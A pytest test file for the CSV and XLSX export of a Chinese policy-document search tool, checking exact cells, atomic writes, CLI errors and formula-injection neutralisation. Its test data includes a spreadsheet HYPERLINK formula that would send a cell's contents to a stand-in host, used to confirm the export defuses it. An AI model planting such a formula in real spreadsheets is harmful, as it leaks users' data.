"""CSV and XLSX exports read back with the csv module and openpyxl: exact cells, formula
injection neutralised, files written whole or not at all."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import openpyxl
import pytest

from govsearch.cli import cli
from govsearch.indexer import build_index
from govsearch.search import export as export_module
from govsearch.search import search
from govsearch.search.export import (
    HIT_COLUMNS,
    Table,
    atomic_output,
    csv_chunks,
    neutralise,
    write_xlsx,
)

LINES = [
    "关于河长制的通知",
    '=HYPERLINK("http://example.invalid/?x="&A1,"河长制")',
    "+86 0755 河长制 热线",
    "-河长制 工作要点",
    "@河长制 办公室",
    '河长制 普通段落，带"引号"和,逗号',
    "没有匹配的段落",
]
META = {"file": "policy.txt", "title": "关于河长制的通知", "year": 2018, "region": "深圳市",
        "level": "city"}  # fmt: skip


@pytest.fixture(scope="module")
def export_index(tmp_path_factory) -> tuple[Path, Path]:
    corpus = tmp_path_factory.mktemp("export-corpus")
    source = corpus / "policy.txt"
    source.write_text("\n".join(LINES) + "\n", "utf-8")
    (corpus / "manifest.jsonl").write_text(json.dumps(META, ensure_ascii=False) + "\n", "utf-8")
    index_dir = tmp_path_factory.mktemp("export-index")
    build_index([corpus], index_dir, manifest=corpus / "manifest.jsonl")
    return index_dir, source


def expected_rows(index_dir: Path, source: Path) -> list[list]:
    """What each hit's row must hold, from the source file (rank order from search)."""
    order = [h for h in search(index_dir, "河长制", limit=None).hits]
    rows = []
    for rank, hit in enumerate(order, 1):
        line = int(hit.id.rsplit(":", 1)[1])
        text = LINES[line - 1]
        rows.append([
            rank, hit.id, hit.doc_id, "关于河长制的通知", 2018, "深圳市", "city", "通知", None,
            hit.section, line, f"{source}:{line}", str(source), line, None, text, "河长制",
            hit.score, None, None, source.as_uri(),
        ])  # fmt: skip
    assert len(rows) == 6 and {r[10] for r in rows} == {1, 2, 3, 4, 5, 6}
    return rows


def csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@"):
        return "'" + value
    return str(value)


def test_search_csv_has_a_bom_and_exact_cells(runner, export_index):
    index_dir, source = export_index
    result = runner.invoke(cli, ["search", "河长制", "--format", "csv", "--index", str(index_dir)],
                           catch_exceptions=False)  # fmt: skip
    assert result.exit_code == 0
    raw = result.stdout_bytes
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in raw and b"\r\r\n" not in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(HIT_COLUMNS)
    expected = expected_rows(index_dir, source)
    assert rows[1:] == [[csv_cell(v) for v in row] for row in expected]
    # Formula-looking paragraphs are neutralised; ordinary text is untouched.
    texts = {row[15] for row in rows[1:]}
    assert "'" + LINES[1] in texts and "'+86 0755 河长制 热线" in texts
    assert "'-河长制 工作要点" in texts and "'@河长制 办公室" in texts
    assert '河长制 普通段落，带"引号"和,逗号' in texts


def test_search_xlsx_reads_back_with_exact_cells(runner, export_index, tmp_path):
    index_dir, source = export_index
    out = tmp_path / "河长制.xlsx"
    result = runner.invoke(
        cli,
        ["search", "河长制", "--format", "xlsx", "--output", str(out), "--index", str(index_dir)],
        catch_exceptions=False,
    )  # fmt: skip
    assert result.exit_code == 0
    assert result.stderr == f"wrote {out}\n"
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["结果"]
    sheet = book["结果"]
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells[0] == list(HIT_COLUMNS)
    assert cells[1:] == expected_rows(index_dir, source)
    text_col = HIT_COLUMNS.index("text") + 1
    for row in sheet.iter_rows(min_row=2):
        cell = row[text_col - 1]
        # Text cells are never formulas; the risky ones carry Excel's quote prefix too.
        assert cell.data_type == "s"
        assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@"))
    # A file URI is text (XlsxWriter would rewrite it as a Windows path); web links click.
    assert sheet.cell(row=2, column=len(HIT_COLUMNS)).hyperlink is None
    assert sheet.freeze_panes == "A2"
    assert not list(tmp_path.glob(".*.part"))


def test_limit_offset_and_no_hits(runner, export_index):
    index_dir, _ = export_index
    args = ["search", "河长制", "--format", "csv", "--index", str(index_dir)]
    two = runner.invoke(cli, [*args, "--limit", "2", "--offset", "1"], catch_exceptions=False)
    every = runner.invoke(cli, args, catch_exceptions=False)
    rows = list(csv.reader(io.StringIO(two.stdout_bytes.decode("utf-8-sig"))))
    all_rows = list(csv.reader(io.StringIO(every.stdout_bytes.decode("utf-8-sig"))))
    assert [r[1:] for r in rows[1:]] == [r[1:] for r in all_rows[2:4]]
    assert [r[0] for r in rows[1:]] == ["1", "2"]
    # Offsets and limits past what islice takes are past every hit: a header, no error.
    huge = "99999999999999999999"
    cases = [(["--offset", huge], []), (["--offset", "5", "--limit", huge], [all_rows[6][1:]])]
    for extra, rows_after_rank in cases:
        past = runner.invoke(cli, [*args, *extra], catch_exceptions=False)
        assert past.exit_code == 0, past.stderr
        got = list(csv.reader(io.StringIO(past.stdout_bytes.decode("utf-8-sig"))))
        assert got[0] == list(HIT_COLUMNS)
        assert [r[1:] for r in got[1:]] == rows_after_rank
    none = runner.invoke(cli, ["search", "zzzz", "--format", "csv", "--index", str(index_dir)])
    assert none.exit_code == 1
    assert none.stdout_bytes.decode("utf-8-sig") == ",".join(HIT_COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    ("extra", "message", "code"),
    [
        (["--format", "xlsx"], "Error: --format xlsx writes a file: add --output FILE.xlsx", 2),
        (["--format", "json", "--output", "x.json"],
         "Error: --output works with --format csv or xlsx; redirect the others", 2),
        (["--format", "csv", "--output", "{tmp}"],
         "Error: {tmp} is a directory; give a file name for the output", 2),
        (["--format", "csv", "--output", "{tmp}/missing/x.csv"],
         "Error: cannot write {tmp}/missing/x.csv: No such file or directory", 2),
        (["--format", "csv", "--output", "{tmp}/exists.csv/x.csv"],
         "Error: cannot write {tmp}/exists.csv/x.csv: Not a directory", 2),
        (["--format", "csv", "--output", "x\0.csv"],
         "Error: cannot write 'x\\x00.csv': a file name cannot contain a NUL character", 2),
        (["--format", "csv", "--output", "{tmp}/exists.csv"],
         "Error: {tmp}/exists.csv already exists; add --force to replace it", 2),
        (["--format", "xlsx", "--count", "--output", "{tmp}/n.xlsx"],
         "Error: --output writes hits; --count prints to stdout: redirect it", 2),
        (["--format", "csv", "--explain", "--output", "{tmp}/e.csv"],
         "Error: --output writes hits; --explain prints to stdout: redirect it", 2),
    ],
)  # fmt: skip
def test_bad_output_is_one_line_and_leaves_nothing(runner, export_index, tmp_path, extra,
                                                    message, code):  # fmt: skip
    index_dir, _ = export_index
    (tmp_path / "exists.csv").write_text("keep me", "utf-8")
    extra = [e.replace("{tmp}", str(tmp_path)) for e in extra]
    result = runner.invoke(cli, ["search", "河长制", *extra, "--index", str(index_dir)])
    assert result.exit_code == code
    assert result.stderr.strip().splitlines()[-1] == message.replace("{tmp}", str(tmp_path))
    assert (tmp_path / "exists.csv").read_text("utf-8") == "keep me"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["exists.csv"]


def test_force_replaces_and_a_failed_write_keeps_the_old_file(export_index, tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old", "utf-8")
    with atomic_output(target, force=True) as tmp:
        tmp.write_text("new", "utf-8")
    assert target.read_text("utf-8") == "new"
    with pytest.raises(RuntimeError), atomic_output(target, force=True) as tmp:
        tmp.write_text("half", "utf-8")
        raise RuntimeError("interrupted")
    assert target.read_text("utf-8") == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("河长制", "河长制"), ("a=1", "a=1"), ("", ""),
     ("'=1", "'=1")],
)  # fmt: skip
def test_neutralise(value, safe):
    assert neutralise(value) == safe


def test_xlsx_limits_long_cells_and_sheet_overflow(tmp_path, monkeypatch):
    monkeypatch.setattr(export_module, "MAX_ROWS", 3)  # header + 2 rows per sheet
    long = "长" * 40_000
    rows = [["=a", 1], ["\tb", 2.5], [long, None], ["c", -3]]
    path = tmp_path / "t.xlsx"
    write_xlsx([Table("表", ("text", "n"), iter(rows))], path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["表", "表 (2)"]
    first = [[c.value for c in r] for r in book["表"].iter_rows()]
    second = [[c.value for c in r] for r in book["表 (2)"].iter_rows()]
    assert first == [["text", "n"], ["=a", 1], ["\tb", 2.5]]
    assert second[0] == ["text", "n"]
    assert second[1] == ["长" * 32_766 + "…", None]
    assert second[2] == ["c", -3]
    assert book["表"]["A2"].quotePrefix and book["表"]["A3"].quotePrefix
    assert not book["表 (2)"]["A3"].quotePrefix


def test_empty_table_is_a_header(tmp_path):
    path = tmp_path / "e.xlsx"
    write_xlsx([Table("空", ("a", "b"), iter([]))], path)
    assert [[c.value for c in r] for r in openpyxl.load_workbook(path)["空"].iter_rows()] == [
        ["a", "b"]
    ]
    assert "".join(csv_chunks(Table("空", ("a", "b"), []))) == "\ufeffa,b\r\n"


def test_csv_streams_in_chunks():
    rows = ([i, f"行{i}"] for i in range(1000))
    chunks = list(csv_chunks(Table("t", ("n", "s"), rows), rows_per_chunk=100))
    assert len(chunks) == 11
    assert chunks[0].startswith("\ufeffn,s\r\n0,行0\r\n")
    assert "".join(chunks).count("\r\n") == 1001


def test_base_url_links_each_hit_to_the_web_ui(runner, export_index, tmp_path):
    index_dir, _ = export_index
    out = tmp_path / "linked.xlsx"
    args = ["search", "河长制", "--format", "xlsx", "--output", str(out), "--index", str(index_dir),
            "--base-url", "http://127.0.0.1:5000/"]  # fmt: skip
    assert runner.invoke(cli, args, catch_exceptions=False).exit_code == 0
    sheet = openpyxl.load_workbook(out)["结果"]
    for row in sheet.iter_rows(min_row=2):
        doc_id, paragraph = row[1].value.split(":")
        url = f"http://127.0.0.1:5000/doc/{doc_id}?q=%E6%B2%B3%E9%95%BF%E5%88%B6#p-{paragraph}"
        assert row[-1].value == url
        assert row[-1].hyperlink.target + "#" + row[-1].hyperlink.location == url


def test_a_dash_o_word_stays_in_the_query(runner, export_index):
    # --output has no short form on search: `-o…` words are "without …" as before.
    index_dir, _ = export_index
    result = runner.invoke(
        cli, ["search", "河长制", "-o热线", "--count", "--index", str(index_dir)]
    )
    # (read as --output 热线 it would be refused: --output needs csv or xlsx)
    assert (result.exit_code, result.stdout) == (0, "6\n")


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_an_export_gets_the_mode_of_a_new_file(runner, export_index, tmp_path):
    index_dir, _ = export_index
    out = tmp_path / "hits.csv"
    old = os.umask(0o022)
    try:
        args = ["search", "河长制", "--format", "csv", "--output", str(out)]
        result = runner.invoke(cli, [*args, "--index", str(index_dir)], catch_exceptions=False)
    finally:
        os.umask(old)
    assert result.exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
